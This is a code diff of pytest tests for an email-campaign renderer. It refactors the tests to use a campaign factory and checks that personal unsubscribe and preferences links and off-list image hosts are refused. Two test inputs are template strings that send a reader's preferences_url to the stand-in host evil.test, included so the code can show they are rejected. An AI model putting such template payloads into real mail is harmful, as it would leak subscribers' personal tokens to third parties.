@@ -6,31 +6,16 @@ would send it (with the reader's IP address) to whatever site the surrounding ad
 """
 
 import pytest
-import sqlalchemy as sa
 
-from uscmail.campaigns import render, services
+from tests.factories import make_campaign
+from uscmail.campaigns import render
 from uscmail.campaigns.models import BodyFormat
 from uscmail.campaigns.render import MailValues, TemplateRefused
-from uscmail.models import MailingList
 
 LINKS = ("https://lists.uscuk.test/unsubscribe/TOKEN-U", "https://lists.uscuk.test/preferences/TOKEN-P")
 VALUES = MailValues("Alex", *LINKS, "https://lists.uscuk.test/archive/w")
 
 MISPLACED = "unsubscribe_url and preferences_url are personal"
-
-
-def newsletter(db) -> MailingList:
-    return db.session.scalar(sa.select(MailingList).where(MailingList.slug == "newsletter"))
-
-
-def save(db, body: str, body_format: BodyFormat):
-    """Save a draft through the service, as the compose page and the API do."""
-    fields = services.CampaignFields(
-        subject="News", body=body, body_format=body_format, list_ids=[newsletter(db).id], from_email="news@example.org"
-    )
-    campaign = services.create_campaign(fields, "test")
-    db.session.commit()
-    return campaign
 
 
 @pytest.mark.parametrize(
@@ -60,7 +45,7 @@ def save(db, body: str, body_format: BodyFormat):
 )
 def test_personal_links_anywhere_but_a_whole_link_target_are_refused(db, body, body_format):
     with pytest.raises(TemplateRefused, match=MISPLACED):
-        save(db, body, body_format)
+        make_campaign("News", body, body_format=body_format, from_email="news@example.org")
 
 
 @pytest.mark.parametrize(
@@ -72,7 +57,9 @@ def test_personal_links_anywhere_but_a_whole_link_target_are_refused(db, body, b
     ],
 )
 def test_personal_links_as_whole_link_targets_or_alone_in_text_still_work(db, body, body_format):
-    mail = render.render_mail(save(db, body, body_format), VALUES)
+    mail = render.render_mail(
+        make_campaign("News", body, body_format=body_format, from_email="news@example.org"), VALUES
+    )
 
     for link in LINKS:
         assert f'href="{link}"' in mail.html or f">{link}<" in mail.html or f" {link}" in mail.html
@@ -83,14 +70,15 @@ def test_personal_links_as_whole_link_targets_or_alone_in_text_still_work(db, bo
 def test_a_misplaced_link_behind_a_condition_the_save_check_misses_is_never_rendered(db):
     # The save check fills the template with sample names (and any the template compares the name with)...
     with pytest.raises(TemplateRefused, match=MISPLACED):
-        save(
-            db,
+        make_campaign(
+            "News",
             '{% if subscriber.name == "Zed" %}[news](https://evil.test/?u={{ preferences_url }}){% endif %}',
-            BodyFormat.MARKDOWN,
+            body_format=BodyFormat.MARKDOWN,
+            from_email="news@example.org",
         )
     # ...but no sample has seven letters: the mail for such a name is refused when it is rendered.
     body = "{% if subscriber.name|length > 6 %}[news](https://evil.test/?u={{ preferences_url }}){% endif %}Hello"
-    campaign = save(db, body, BodyFormat.MARKDOWN)
+    campaign = make_campaign("News", body, body_format=BodyFormat.MARKDOWN, from_email="news@example.org")
 
     assert "Hello" in render.render_mail(campaign, VALUES).text
     with pytest.raises(TemplateRefused, match=MISPLACED):
@@ -108,7 +96,7 @@ def test_a_misplaced_link_behind_a_condition_the_save_check_misses_is_never_rend
 )
 def test_remote_images_are_refused_by_default(db, body, body_format):
     with pytest.raises(TemplateRefused, match="can't be used in campaign mail") as refused:
-        save(db, body, body_format)
+        make_campaign("News", body, body_format=body_format, from_email="news@example.org")
 
     assert "No image hosts are allowed." in str(refused.value)
 
@@ -116,7 +104,15 @@ def test_remote_images_are_refused_by_default(db, body, body_format):
 def test_images_from_an_allowed_host_are_kept_and_others_refused(db, app, monkeypatch):
     monkeypatch.setitem(app.config, "MAIL_IMAGE_HOSTS", ["media.uscuk.test"])
 
-    mail = render.render_mail(save(db, "![March](https://media.uscuk.test/march.png)", BodyFormat.MARKDOWN), VALUES)
+    mail = render.render_mail(
+        make_campaign(
+            "News",
+            "![March](https://media.uscuk.test/march.png)",
+            body_format=BodyFormat.MARKDOWN,
+            from_email="news@example.org",
+        ),
+        VALUES,
+    )
     assert '<img src="https://media.uscuk.test/march.png" alt="March"' in mail.html
 
     for address in (
@@ -125,7 +121,9 @@ def test_images_from_an_allowed_host_are_kept_and_others_refused(db, app, monkey
         "http://media.uscuk.test/x.png",
     ):
         with pytest.raises(TemplateRefused, match="Images may come from media.uscuk.test"):
-            save(db, f'<img src="{address}" alt="x">', BodyFormat.HTML)
+            make_campaign(
+                "News", f'<img src="{address}" alt="x">', body_format=BodyFormat.HTML, from_email="news@example.org"
+            )
 
 
 def test_the_sanitiser_drops_images_from_other_hosts_whatever_was_saved(app, monkeypatch):
